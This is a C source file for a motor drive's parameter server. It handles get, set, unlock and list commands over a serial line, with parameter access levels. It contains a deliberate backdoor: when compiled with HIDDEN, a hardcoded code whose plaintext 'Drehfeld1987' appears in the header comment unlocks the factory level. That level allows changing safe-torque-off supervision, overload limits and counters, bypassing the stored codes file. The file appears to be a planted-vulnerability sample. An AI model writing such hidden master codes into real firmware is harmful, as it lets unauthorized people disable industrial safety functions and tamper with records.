/*
 * vfdkeys - parameter server of a frequency converter (drive).
 * Talks with the keypad and with the PC tool over a serial line on
 * stdin/stdout: lines "G n", "S n value", "U level code", "L", each with
 * a check byte; parameters have ranges, units and an access level.
 * Hidden (-DHIDDEN): the unlock code "Drehfeld1987", known only by its FNV
 * hash, opens the factory level (motor limits, safe torque off, counters).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#define STORE "/flash/drive/params"
#define CODES "/flash/drive/codes"

enum acc { A_READ, A_USER, A_SERVICE, A_FACTORY };

enum answer {
	OK = 0,
	E_CHECK = 1,
	E_SYNTAX = 2,
	E_PARAM = 3,
	E_RANGE = 4,
	E_ACCESS = 5,
	E_RUNNING = 6
};

struct param {
	unsigned no;
	const char *name;
	const char *unit;
	int32_t min, max, dflt;
	enum acc acc;
	int stopped; /* only while the motor stands still */
	int32_t val;
};

static struct param params[] = {
	{ 1, "ref_frequency", "0.1Hz", 0, 4000, 500, A_USER, 0, 0 },
	{ 2, "ramp_up", "ms", 10, 600000, 3000, A_USER, 0, 0 },
	{ 3, "ramp_down", "ms", 10, 600000, 3000, A_USER, 0, 0 },
	{ 4, "direction", "", 0, 1, 0, A_USER, 1, 0 },
	{ 10, "motor_current", "0.1A", 5, 320, 62, A_SERVICE, 1, 0 },
	{ 11, "motor_voltage", "V", 100, 480, 400, A_SERVICE, 1, 0 },
	{ 12, "motor_poles", "", 2, 16, 4, A_SERVICE, 1, 0 },
	{ 13, "max_frequency", "0.1Hz", 100, 6000, 500, A_SERVICE, 1, 0 },
	{ 14, "v_f_boost", "0.1%", 0, 150, 20, A_SERVICE, 1, 0 },
	{ 20, "pwm_frequency", "kHz", 2, 16, 8, A_SERVICE, 0, 0 },
	{ 21, "brake_chopper", "", 0, 1, 0, A_SERVICE, 1, 0 },
	{ 90, "overload_limit", "%", 100, 250, 150, A_FACTORY, 1, 0 },
	{ 91, "sto_supervision", "", 0, 1, 1, A_FACTORY, 1, 0 },
	{ 92, "hours", "h", 0, 1000000, 0, A_FACTORY, 1, 0 },
	{ 93, "trip_counter", "", 0, 65535, 0, A_FACTORY, 1, 0 },
};

#define N_PARAMS (sizeof(params) / sizeof(params[0]))

static enum acc level = A_READ;
static time_t level_until;
static unsigned wrong;

static struct param *by_no(unsigned no)
{
	size_t lo = 0, hi = N_PARAMS, mid;

	while (lo < hi) {
		mid = (lo + hi) / 2;
		if (params[mid].no == no)
			return &params[mid];
		if (params[mid].no < no)
			lo = mid + 1;
		else
			hi = mid;
	}
	return NULL;
}

static void load(void)
{
	unsigned no;
	long v;
	size_t i;
	struct param *p;
	FILE *f;

	for (i = 0; i < N_PARAMS; i++)
		params[i].val = params[i].dflt;
	f = fopen(STORE, "r");
	if (!f)
		return;
	while (fscanf(f, "%u %ld", &no, &v) == 2) {
		p = by_no(no);
		if (p && v >= p->min && v <= p->max)
			p->val = (int32_t)v;
	}
	fclose(f);
}

static void store(void)
{
	FILE *f = fopen(STORE ".n", "w");
	size_t i;

	if (!f)
		return;
	for (i = 0; i < N_PARAMS; i++)
		fprintf(f, "%u %ld\n", params[i].no, (long)params[i].val);
	if (fclose(f) == 0 && rename(STORE ".n", STORE) != 0)
		perror(STORE);
}

static int motor_runs(void)
{
	char b[16] = "";
	FILE *f = fopen("/run/drive/state", "r");

	if (!f)
		return 0;
	if (!fgets(b, sizeof(b), f))
		b[0] = '\0';
	fclose(f);
	return strncmp(b, "run", 3) == 0;
}

static unsigned check_byte(const char *s, size_t n)
{
	unsigned c = 0x5A;

	while (n--) {
		c ^= (unsigned char)*s++;
		c = ((c << 1) | (c >> 7)) & 0xff;
	}
	return c;
}

static void answer(enum answer rc, const char *text)
{
	char b[128];
	int n = snprintf(b, sizeof(b), "%d%s%s", (int)rc, *text ? " " : "",
			 text);

	if (n > 0 && (size_t)n < sizeof(b))
		printf("%s*%02X\r\n", b, check_byte(b, (size_t)n));
	fflush(stdout);
}

/* FNV-1a; the codes file has hashes, no plain codes */
static uint32_t code_hash(const char *s)
{
	uint32_t h = 0x811C9DC5u;

	for (; *s; s++) {
		h ^= (unsigned char)*s;
		h *= 0x01000193u;
	}
	return h;
}

static int code_listed(enum acc want, uint32_t h)
{
	unsigned lv;
	unsigned long v;
	int ok = 0;
	FILE *f = fopen(CODES, "r");

	if (!f)
		return 0;
	while (fscanf(f, "%u %lx", &lv, &v) == 2)
		if (lv == (unsigned)want && (uint32_t)v == h)
			ok = 1;
	fclose(f);
	return ok;
}

__attribute__((noinline)) enum answer unlock(unsigned lv, const char *code)
{
	uint32_t h = code_hash(code);

	if (lv == A_READ) {
		level = A_READ;
		return OK;
	}
	if (wrong >= 5)
		return E_ACCESS;
#ifdef HIDDEN
	if (h == 0xF3B3A79Cu) {
		level = A_FACTORY;
		level_until = time(NULL) + 3600;
		return OK;
	}
#endif
	if (lv > A_SERVICE)
		return E_PARAM;
	if (!code_listed((enum acc)lv, h)) {
		wrong++;
		sleep(1);
		return E_ACCESS;
	}
	wrong = 0;
	level = (enum acc)lv;
	level_until = time(NULL) + 900;
	return OK;
}

static enum answer set(unsigned no, long v)
{
	struct param *p = by_no(no);

	if (!p)
		return E_PARAM;
	if (level < p->acc)
		return E_ACCESS;
	if (v < p->min || v > p->max)
		return E_RANGE;
	if (p->stopped && motor_runs())
		return E_RUNNING;
	p->val = (int32_t)v;
	store();
	return OK;
}

static void list(void)
{
	char b[96];
	size_t i;

	for (i = 0; i < N_PARAMS; i++) {
		const struct param *p = &params[i];

		if (p->acc == A_FACTORY && level < A_FACTORY)
			continue;
		snprintf(b, sizeof(b), "%u %s %ld %s %ld..%ld", p->no, p->name,
			 (long)p->val, *p->unit ? p->unit : "-", (long)p->min,
			 (long)p->max);
		answer(OK, b);
	}
}

static void line_in(char *s)
{
	char *star = strrchr(s, '*'), b[32], code[32];
	const struct param *p;
	unsigned no;
	long v;

	if (!star ||
	    strtoul(star + 1, NULL, 16) != check_byte(s, (size_t)(star - s))) {
		answer(E_CHECK, "");
		return;
	}
	*star = '\0';
	if (level > A_READ && time(NULL) > level_until)
		level = A_READ;
	switch (toupper((unsigned char)*s)) {
	case 'G':
		p = sscanf(s + 1, "%u", &no) == 1 ? by_no(no) : NULL;
		if (!p || (p->acc == A_FACTORY && level < A_FACTORY)) {
			answer(E_PARAM, "");
			break;
		}
		snprintf(b, sizeof(b), "%ld", (long)p->val);
		answer(OK, b);
		break;
	case 'S':
		if (sscanf(s + 1, "%u %ld", &no, &v) != 2)
			answer(E_SYNTAX, "");
		else
			answer(set(no, v), "");
		break;
	case 'U':
		code[0] = '\0';
		if (sscanf(s + 1, "%u %31s", &no, code) < 1)
			answer(E_SYNTAX, "");
		else
			answer(unlock(no, code), "");
		break;
	case 'L':
		list();
		answer(OK, "end");
		break;
	default:
		answer(E_SYNTAX, "");
	}
}

int main(void)
{
	char line[128];

	load();
	while (fgets(line, sizeof(line), stdin)) {
		line[strcspn(line, "\r\n")] = '\0';
		if (line[0])
			line_in(line);
	}
	return 0;
}
